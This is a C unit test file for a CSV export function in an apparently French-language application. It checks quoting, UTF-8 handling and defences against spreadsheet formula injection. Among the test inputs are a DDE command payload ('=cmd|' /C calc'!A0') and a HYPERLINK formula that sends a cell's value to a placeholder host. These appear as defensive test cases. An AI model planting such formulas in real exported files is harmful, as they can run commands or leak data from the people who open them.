#include "config.h"

#include "ui/agent/csv.h"

#include <string.h>

static void
test_cells (void)
{
  static const struct
  {
    const char *text;
    const char *cell;
  } cases[] = {
    { NULL, "\"\"" },
    { "", "\"\"" },
    { "R-004871", "\"R-004871\"" },
    { "Déplacement de meubles", "\"Déplacement de meubles\"" },
    { "a;b,c", "\"a;b,c\"" },
    { "le « 14 \" » est cassé", "\"le « 14 \"\" » est cassé\"" },
    { "\"", "\"\"\"\"" },
    { "deux\nlignes", "\"deux\nlignes\"" },
    /* What a spreadsheet would calculate. */
    { "=1+1", "\"'=1+1\"" },
    { "=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\"" },
    { "=HYPERLINK(\"http://x.example/?\"&A1)", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\"" },
    { "+33 4 67 91 42 00", "\"'+33 4 67 91 42 00\"" },
    { "-1", "\"'-1\"" },
    { "@SUM(A1)", "\"'@SUM(A1)\"" },
    { "\t=1", "\"'\t=1\"" },
    { "\r=1", "\"'\n=1\"" },
    { "\n=1", "\"'\n=1\"" },
    { "  =1", "\"'  =1\"" },
    { "＝1+1", "\"'＝1+1\"" },
    { "a=1", "\"a=1\"" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GString) csv = g_string_new (NULL);

      guichet_csv_append_cell (csv, cases[i].text);
      g_assert_cmpstr (csv->str, ==, cases[i].cell);
    }
}

/* However broken the text, the file is UTF-8. */
static void
test_broken_text (void)
{
  static const char * const texts[] = { "\xff\xfe", "caf\xe9", "\xc3", "\xed\xa0\x80", "=\xff" };

  for (guint i = 0; i < G_N_ELEMENTS (texts); i++)
    {
      g_autoptr(GString) csv = g_string_new (NULL);

      guichet_csv_append_cell (csv, texts[i]);
      g_assert_true (g_utf8_validate (csv->str, csv->len, NULL));
      g_assert_cmpuint (csv->len, ==, strlen (csv->str));
    }
}

static void
test_rows (void)
{
  g_autoptr(GString) csv = g_string_new (GUICHET_CSV_BYTE_ORDER_MARK);
  const char *title[] = { "Nom complet", "Statut", NULL };
  const char *row[] = { "R-000001", "À \"compléter\"; vite", NULL };
  const char *nothing[] = { NULL };

  guichet_csv_append_row (csv, title, ';');
  guichet_csv_append_row (csv, row, ';');
  guichet_csv_append_row (csv, nothing, ';');
  g_assert_cmpstr (csv->str, ==,
                   "\xEF\xBB\xBF\"Nom complet\";\"Statut\"\r\n"
                   "\"R-000001\";\"À \"\"compléter\"\"; vite\"\r\n"
                   "\r\n");
}

/* No quote inside a cell ends it: reading the cell back gives the text. */
static void
test_round_trip (void)
{
  static const char letters[] = "a\";,\n=é+";

  for (guint run = 0; run < 2000; run++)
    {
      g_autoptr(GString) text = g_string_new (NULL);
      g_autoptr(GString) csv = g_string_new (NULL);
      g_autoptr(GString) back = g_string_new (NULL);
      guint n = g_test_rand_int_range (0, 12);

      for (guint i = 0; i < n; i++)
        {
          const char *at = letters + g_test_rand_int_range (0, sizeof letters - 1);

          g_string_append_c (text, (*at & 0x80) != 0 ? 'e' : *at);
        }

      guichet_csv_append_cell (csv, text->str);
      g_assert_true (csv->str[0] == '"' && csv->str[csv->len - 1] == '"');
      for (gsize i = 1; i + 1 < csv->len; i++)
        {
          if (csv->str[i] == '"')
            g_assert_true (csv->str[++i] == '"' && i + 1 < csv->len);
          g_string_append_c (back, csv->str[i]);
        }
      g_assert_cmpstr (back->str + (back->str[0] == '\''), ==, text->str);
    }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/csv/cells", test_cells);
  g_test_add_func ("/csv/broken-text", test_broken_text);
  g_test_add_func ("/csv/rows", test_rows);
  g_test_add_func ("/csv/round-trip", test_round_trip);

  return g_test_run ();
}
